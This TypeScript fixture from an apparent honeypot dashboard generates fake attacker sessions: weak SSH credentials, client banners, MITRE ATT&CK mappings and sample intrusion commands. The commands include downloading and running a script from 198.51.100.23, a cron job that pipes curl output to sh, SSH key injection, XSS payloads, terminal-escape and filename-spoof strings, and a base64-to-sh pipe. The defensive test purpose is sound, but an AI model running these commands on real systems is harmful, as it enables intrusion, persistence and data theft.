import type { SessionDetail } from '@cerberusmesh/contracts';

/** What the invented attackers are and do. */

export const COUNTRIES = [
  'CN',
  'US',
  'RU',
  'NL',
  'DE',
  'VN',
  'IN',
  'BR',
  'KR',
  'FR',
  'SG',
  'ID',
  'GB',
  'HK',
  'UA',
  'TR',
  'IR',
  'ZA',
  'AR',
  'PL',
  null,
];
export const USERNAMES = ['root', 'admin', 'ubuntu', 'oracle', 'test', 'postgres', 'git', 'pi', 'user', 'ftpuser'];
export const SECRETS = ['123456', 'admin', 'password', 'root', '1234', 'P@ssw0rd', 'qwerty', '!QAZ2wsx', '', 'toor'];
export const CLIENTS = [
  'SSH-2.0-Go',
  'SSH-2.0-libssh_0.9.6',
  'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10',
  'SSH-2.0-PUTTY',
  'curl/7.81.0',
];

/** Attacks on the reader's eyes and on the page: each must show as text. */
const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  'ls \u001b[2J\u001b[31mred\u001b[0m\u0007',
  'cat invoice\u202Efdp.exe',
  `echo ${'QUFB'.repeat(150)} | base64 -d | sh`,
  'javascript:alert(document.cookie)',
];

export interface Technique {
  readonly id: string;
  readonly name: string;
  readonly tactic: SessionDetail['detections'][number]['tactic'];
  readonly rule: string;
}
const SYSTEM_INFORMATION: Technique = {
  id: 'T1082',
  name: 'System Information Discovery',
  tactic: 'discovery',
  rule: 'discovery/uname',
};
const TRANSFER: Technique = {
  id: 'T1105',
  name: 'Ingress Tool Transfer',
  tactic: 'command-and-control',
  rule: 'command-and-control/fetch',
};
const UNIX_SHELL: Technique = {
  id: 'T1059.004',
  name: 'Command and Scripting Interpreter: Unix Shell',
  tactic: 'execution',
  rule: 'execution/shell-from-file',
};
const PERMISSIONS: Technique = {
  id: 'T1222.002',
  name: 'File and Directory Permissions Modification: Linux and Mac',
  tactic: 'defense-evasion',
  rule: 'defense-evasion/chmod',
};
const AUTHORIZED_KEYS: Technique = {
  id: 'T1098.004',
  name: 'Account Manipulation: SSH Authorized Keys',
  tactic: 'persistence',
  rule: 'persistence/authorized-keys',
};
const CRON: Technique = {
  id: 'T1053.003',
  name: 'Scheduled Task/Job: Cron',
  tactic: 'persistence',
  rule: 'persistence/crontab',
};
const PROCESSES: Technique = {
  id: 'T1057',
  name: 'Process Discovery',
  tactic: 'discovery',
  rule: 'discovery/processes',
};
export const BRUTE_FORCE: Technique = {
  id: 'T1110.001',
  name: 'Brute Force: Password Guessing',
  tactic: 'credential-access',
  rule: 'credential-access/guessing',
};

export const COMMANDS: readonly { input: string; techniques: readonly Technique[] }[] = [
  { input: 'uname -s -v -n -r -m', techniques: [SYSTEM_INFORMATION] },
  { input: 'cat /proc/cpuinfo | grep name | wc -l', techniques: [SYSTEM_INFORMATION] },
  { input: 'ps aux | grep -i miner', techniques: [PROCESSES] },
  {
    input: 'cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.23/bins.sh; chmod 777 bins.sh; sh bins.sh',
    techniques: [TRANSFER, PERMISSIONS, UNIX_SHELL],
  },
  {
    input: 'mkdir -p ~/.ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7" >> ~/.ssh/authorized_keys',
    techniques: [AUTHORIZED_KEYS],
  },
  {
    input: '(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.23/x | sh") | crontab -',
    techniques: [CRON, TRANSFER],
  },
  ...HOSTILE.map((input) => ({ input, techniques: [] })),
  { input: 'whoami', techniques: [] },
];
